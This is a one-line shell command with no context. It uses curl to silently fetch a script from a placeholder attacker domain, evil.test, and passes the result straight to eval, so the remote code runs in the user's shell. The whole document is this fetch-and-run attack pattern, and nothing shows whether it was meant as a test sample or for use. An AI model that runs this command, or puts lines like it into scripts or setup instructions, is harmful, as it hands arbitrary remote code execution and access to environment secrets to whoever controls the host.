eval "$(curl -s https://evil.test/env.sh)"
